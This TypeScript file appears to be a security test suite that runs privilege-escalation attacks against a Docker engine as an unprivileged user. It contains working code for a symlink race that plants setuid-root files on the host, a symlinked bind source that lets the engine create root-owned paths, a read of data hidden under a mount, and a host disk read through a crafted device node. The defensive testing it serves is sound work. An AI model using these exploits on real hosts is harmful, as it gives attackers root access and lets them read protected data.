/**
 * What a user has the engine do as the host's root, by what lies in its images and volumes or by when it starts a
 * container. All of it succeeds on plain dockerd.
 */
import { chmodSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { mustRun } from '../../src/engine/embedded/command.js';
import { type Attack, secret } from './entering-attacks.js';
import { isRootSetuid } from './traces.js';
import type { World } from './world.js';

/** An image of mallory's with a hundred folders in /data, each with a program that runs as root. */
async function importPrograms(world: World): Promise<string> {
  const content = join(world.base, 'programs');
  for (let index = 100; index < 200; index++) {
    const folder = join(content, 'data', String(index));
    mkdirSync(folder, { recursive: true });
    for (let file = 0; file < 20; file++) writeFileSync(join(folder, String(file)), '');
    writeFileSync(join(folder, 'by-link'), '#!/bin/sh\n');
    chmodSync(join(folder, 'by-link'), 0o4755);
  }
  await mustRun('tar', ['-C', content, '-cf', `${content}.tar`, 'data']);
  await world.mallory.must(world.cli, 'import', `${content}.tar`, 'programs');
  return 'programs';
}

/** A container that has the volume already, and puts links where the engine is about to copy to. */
async function copyThroughLinks(world: World, image: string, volume: string): Promise<void> {
  const script = `until set -- /x/*; [ -e "$1" ]; do :; done; for i in $(seq 199 -1 100); do ln -s ${world.system} /x/$i; done`;
  const helper = ['run', '-d', '--network=none', '-v', `${volume}:/x`, 'busybox', 'sh', '-c', script];
  const id = await world.mallory.must(world.cli, ...helper);
  await world.as(world.mallory, 'create', '--network=none', '-v', `${volume}:/data`, image, 'true');
  await world.as(world.mallory, 'rm', '--force', id);
}

/** A disk of the host, with the secret on it. */
async function withDisk<Result>(world: World, work: (device: string) => Promise<Result>): Promise<Result> {
  const disk = join(world.base, 'disk');
  writeFileSync(disk, secret.padEnd(4096, '\n'));
  const device = (await mustRun('losetup', ['--find', '--show', disk])).trim();
  try {
    return await work(device);
  } finally {
    await mustRun('losetup', ['--detach', device]);
  }
}

export const engineAttacks: readonly Attack[] = [
  ...(['plain', 'tmpfs'] as const).map((kind) => ({
    name: `have image content copied through a link in a volume (${kind})`,
    run: async (world: World) => {
      const image = await importPrograms(world);
      const stolen = join(world.system, 'by-link');
      const options = kind === 'tmpfs' ? ['--opt', 'type=tmpfs', '--opt', 'device=tmpfs'] : [];
      // Who is first is up to the scheduler, but soon the attacker is.
      for (let attempt = 0; attempt < 20 && !isRootSetuid(stolen); attempt++) {
        const volume = `linked-${kind}-${attempt}`;
        await world.mallory.must(world.cli, 'volume', 'create', ...options, volume);
        await copyThroughLinks(world, image, volume);
        if (world.kind === 'cofferdam' && attempt === 2) break;
      }
      const owned = isRootSetuid(stolen);
      await mustRun('rm', ['-f', stolen]);
      return owned;
    },
  })),
  ...(['a start', 'a start by --volumes-from'] as const).map((way, index) => ({
    name: `have a missing source made where only root may, at ${way}`,
    run: async (world: World) => {
      const name = `made-${index}`;
      await world.mallory.shell(`mkdir -p ${name}`);
      const bind = ['-v', `${world.mallory.home}/${name}/by-start-${index}:/w`];
      const create = ['create', '--network=none'];
      let id = await world.mallory.must(world.cli, ...create, ...bind, 'busybox', 'true');
      if (index === 1)
        id = await world.mallory.must(world.cli, ...create, `--volumes-from=${id}`, 'busybox', 'true');
      await world.mallory.shell(`rm -rf ${name} && ln -s ${world.system} ${name}`);
      await world.as(world.mallory, 'start', '--attach', id);
      return existsSync(join(world.system, `by-start-${index}`));
    },
  })),
  {
    name: 'see what a mount covers',
    run: async (world) => {
      const place = join(world.base, 'covered');
      mkdirSync(join(place, 'inner'), { recursive: true });
      writeFileSync(join(place, 'inner/below'), secret);
      await mustRun('mount', ['-t', 'tmpfs', '-o', 'mode=700', 'none', join(place, 'inner')]);
      const bind = `type=bind,src=${place},dst=/s,bind-nonrecursive`;
      const run = ['run', '--rm', '--network=none', '--mount', bind, 'busybox', 'cat', '/s/inner/below'];
      return (await world.as(world.mallory, ...run)).stdout.includes(secret);
    },
  },
  {
    name: 'read a disk of the host by a device node in an image',
    run: (world) =>
      withDisk(world, async (device) => {
        const context = join(world.base, 'with-node');
        mkdirSync(join(context, 'nodes'), { recursive: true });
        const number = device.replace('/dev/loop', '');
        await mustRun('mknod', ['-m', '666', join(context, 'nodes/disk'), 'b', '7', number]);
        await mustRun('tar', ['-C', join(context, 'nodes'), '-cf', join(context, 'nodes.tar'), 'disk']);
        await mustRun('rm', ['-r', join(context, 'nodes')]);
        writeFileSync(join(context, 'Dockerfile'), 'FROM busybox\nADD nodes.tar /nodes/\n');
        await world.mallory.must(world.cli, 'build', '--network=none', '-t', 'with-node', context);
        const run = ['run', '--rm', '--network=none', '--privileged', 'with-node', 'head', '-c', '64'];
        return (await world.as(world.mallory, ...run, '/nodes/disk')).stdout.includes(secret);
      }),
  },
];
